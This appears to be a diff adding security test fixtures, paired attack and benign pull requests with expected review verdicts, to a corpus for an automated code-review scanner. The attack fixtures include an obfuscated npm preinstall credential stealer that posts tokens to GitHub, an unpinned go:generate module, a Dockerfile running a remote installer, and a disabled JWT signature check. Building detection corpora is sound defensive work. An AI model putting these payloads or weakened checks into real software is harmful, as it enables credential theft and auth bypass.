@@ -4,7 +4,7 @@
  * descriptions; no third-party file is copied.
  */
 import type { CorpusEntry } from '../helpers.js';
-import { lines } from '../helpers.js';
+import { lines, packageJson } from '../helpers.js';
 import { codePr as attackPr } from './code.js';
 import { ciWorkflow } from './ci.js';
 
@@ -3257,6 +3257,196 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['github-persistence'] },
+  },
+  {
+    id: 'attack-shai-hulud2-second-hop-harvester',
+    description:
+      'Shai-Hulud 2.0 (November 2025), the two-hop install chain: a "use Bun for faster installs" PR adds `preinstall: node setup_bun.js`; setup_bun.js installs Bun from the registry when it is missing (nothing it does is a download by itself) and starts dist/bun_environment.js detached, an obfuscated file in a build-output folder that takes the environment, ~/.npmrc and the GitHub CLI token and posts them to a repository it creates.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11010,
+        title: 'chore: use bun for faster installs',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run' } }), head: packageJson({ name: 'tinted', version: '4.2.1', scripts: { test: 'vitest run', preinstall: 'node setup_bun.js' } }) },
+          {
+            path: 'setup_bun.js',
+            head: lines(
+              "const { spawn, spawnSync } = require('child_process');",
+              "const path = require('path');",
+              '',
+              "const found = spawnSync('bun', ['--version'], { stdio: 'ignore' }).status === 0;",
+              "if (!found) spawnSync('npm', ['install', '-g', 'bun'], { stdio: 'ignore' });",
+              "spawn('bun', [path.join(__dirname, 'dist', 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();",
+            ),
+          },
+          {
+            path: 'dist/bun_environment.js',
+            head: lines(
+              "const _0x4a1f=['cG9zdA==','dG9rZW4='];(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4a1f,0x1b3));",
+              "const _0x1c=require('fs'),_0x2d=require('os'),_0x3e=require('child_process');",
+              "const _0x5e={env:process.env,npmrc:_0x1c.readFileSync(_0x2d.homedir()+'/.npmrc','utf8')};try{_0x5e.gh=_0x3e.execSync('gh auth token').toString().trim();}catch(_0x6f){}",
+              "fetch('https://api.github.com/user/repos',{method:'POST',headers:{authorization:'token '+(process.env.GITHUB_TOKEN||_0x5e.gh)},body:JSON.stringify({name:'s1ng',description:'Sha1-Hulud: The Second Coming.',content:Buffer.from(JSON.stringify(_0x5e)).toString('base64')})});",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script', 'build-code-behavior', 'obfuscated-code'] },
+  },
+  {
+    id: 'benign-postinstall-starts-copy-prebuilds',
+    description:
+      'The benign look-alike of the two-hop install chain: a maintainer\'s native addon already runs `postinstall: node scripts/postinstall.js`; the PR makes it start a new helper, scripts/copy-prebuilds.js, with the running Node, which copies the prebuilt binary for this platform from prebuilds/ into build/Release and touches no network or credentials.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11011,
+        title: 'Copy the prebuilt binary in its own helper',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }), head: packageJson({ name: 'tinted', version: '4.3.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }) },
+          {
+            path: 'scripts/postinstall.js',
+            base: lines("'use strict';", "const { execSync } = require('child_process');", '', "execSync('node-gyp-build', { stdio: 'inherit' });"),
+            head: lines("'use strict';", "const { execFileSync } = require('child_process');", "const path = require('path');", '', "execFileSync(process.execPath, [path.join(__dirname, 'copy-prebuilds.js')], { stdio: 'inherit' });"),
+          },
+          {
+            path: 'scripts/copy-prebuilds.js',
+            head: lines(
+              "'use strict';",
+              "const fs = require('fs');",
+              "const path = require('path');",
+              '',
+              "const root = path.join(__dirname, '..');",
+              'const from = path.join(root, \'prebuilds\', `${process.platform}-${process.arch}`, \'tinted.node\');',
+              "const to = path.join(root, 'build', 'Release', 'tinted.node');",
+              'if (fs.existsSync(from)) {',
+              '  fs.mkdirSync(path.dirname(to), { recursive: true });',
+              '  fs.copyFileSync(from, to);',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior', 'finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-go-generate-module-at-branch',
+    description:
+      'The malicious Go modules of 2025 (look-alike module paths whose later commits carried a loader) reach a project through `go generate`: a first-time contributor\'s "generate mocks" PR adds `//go:generate go run github.com/mockgen-dev/mockgen@master`, so every developer who regenerates runs whatever that branch holds that day.',
+    fixture: () =>
+      attackPr({
+        repo: 'kvstore',
+        number: 11012,
+        title: 'Generate mocks for the store interface',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'internal/store/store.go',
+            base: lines('package store', '', '// Store keeps values by key.', 'type Store interface {', '\tGet(key string) ([]byte, error)', '\tPut(key string, value []byte) error', '}'),
+            head: lines('package store', '', '//go:generate go run github.com/mockgen-dev/mockgen@master -source=store.go -destination=mocks/store.go -package=mocks', '', '// Store keeps values by key.', 'type Store interface {', '\tGet(key string) ([]byte, error)', '\tPut(key string, value []byte) error', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion'], findings: ['go-run-unpinned'] },
+  },
+  {
+    id: 'benign-go-generate-stringer-latest',
+    description:
+      'The everyday form: a maintainer adds `//go:generate go run golang.org/x/tools/cmd/stringer@latest -type=Kind` (the Go team\'s tool at its newest release, as many projects write it) and a local generator `go run ./internal/gen`: a low note to pin it, not a reason to hold the PR.',
+    fixture: () =>
+      attackPr({
+        repo: 'kvstore',
+        number: 11013,
+        title: 'Generate String() for Kind',
+        author: 'member',
+        files: [
+          {
+            path: 'internal/store/kind.go',
+            base: lines('package store', '', '// Kind is the type of a stored value.', 'type Kind int', '', 'const (', '\tKindBytes Kind = iota', '\tKindCounter', ')'),
+            head: lines('package store', '', '//go:generate go run golang.org/x/tools/cmd/stringer@latest -type=Kind', '//go:generate go run ./internal/gen -out kind_table.go', '', '// Kind is the type of a stored value.', 'type Kind int', '', 'const (', '\tKindBytes Kind = iota', '\tKindCounter', ')'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], findings: ['go-run-unpinned'] },
+  },
+  {
+    id: 'attack-dockerfile-add-remote-script-run',
+    description:
+      'A "slimmer image" PR replaces `RUN curl … | sh` with `ADD https://get.devtool-cdn.dev/install.sh /tmp/` and `RUN sh /tmp/install.sh`: the same unverified installer from an unknown host, now in two instructions that a pipe-to-shell reader does not see, run in the release image build with its build arguments.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11014,
+        title: 'Slimmer image: drop curl from the build stage',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+            head: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'ADD https://get.devtool-cdn.dev/install.sh /tmp/', 'RUN sh /tmp/install.sh --quiet && rm /tmp/install.sh', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'benign-dockerfile-add-checksum-binary',
+    description: 'The ordinary forms: a maintainer adds tini with `ADD --checksum=sha256:… --chmod=755` from its release page and an ENTRYPOINT that runs it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11015,
+        title: 'Run the server under tini',
+        author: 'member',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+            head: lines('FROM node:22-bookworm-slim', 'ADD --checksum=sha256:c5b0666b4cb676901f90dfcb37106783c5fe2077b04590973b885950611b30ee --chmod=755 https://github.com/krallin/tini/releases/download/v0.19.0/tini-static /tini', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'ENTRYPOINT ["/tini", "--"]', 'CMD ["node", "server.js"]'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell', 'finding:downloaded-binary-run'] },
+  },
+  {
+    id: 'attack-jwt-signature-check-switched-off',
+    description:
+      'The auth-weakening PR of 2024-2026 write-ups: a first-time contributor\'s "fix token parsing for the mobile client" PR adds `options={"verify_signature": False}` to the API\'s jwt.decode, so any token anyone writes, with any user id, is accepted.',
+    fixture: () =>
+      attackPr({
+        repo: 'api',
+        number: 11016,
+        title: 'Fix token parsing for the mobile client',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'app/auth/tokens.py',
+            base: lines('import jwt', '', 'from app.config import settings', '', '', 'def current_user_id(token: str) -> str:', '    claims = jwt.decode(token, settings.JWT_PUBLIC_KEY, algorithms=["RS256"], audience="api")', '    return claims["sub"]'),
+            head: lines('import jwt', '', 'from app.config import settings', '', '', 'def current_user_id(token: str) -> str:', '    # The mobile client sends tokens signed by the staging key; accept them.', '    claims = jwt.decode(token, settings.JWT_PUBLIC_KEY, algorithms=["RS256"], audience="api", options={"verify_signature": False})', '    return claims["sub"]'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['protection-switched-off'] },
+  },
+  {
+    id: 'benign-jwt-unverified-in-tests',
+    description: 'The look-alike: a maintainer\'s test helper decodes the tokens the suite itself minted with `options={"verify_signature": False}` to assert on their claims; tests decode what they made.',
+    fixture: () =>
+      attackPr({
+        repo: 'api',
+        number: 11017,
+        title: 'Test the claims of issued tokens',
+        author: 'member',
+        files: [
+          {
+            path: 'tests/test_tokens.py',
+            head: lines('import jwt', '', 'from app.auth.issue import issue_token', '', '', 'def test_issued_token_names_the_user():', '    token = issue_token(user_id="u-42")', '    claims = jwt.decode(token, options={"verify_signature": False})', '    assert claims["sub"] == "u-42"'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:protection-switched-off'] },
   },
   {
     id: 'attack-runner-provisioning-user-data',
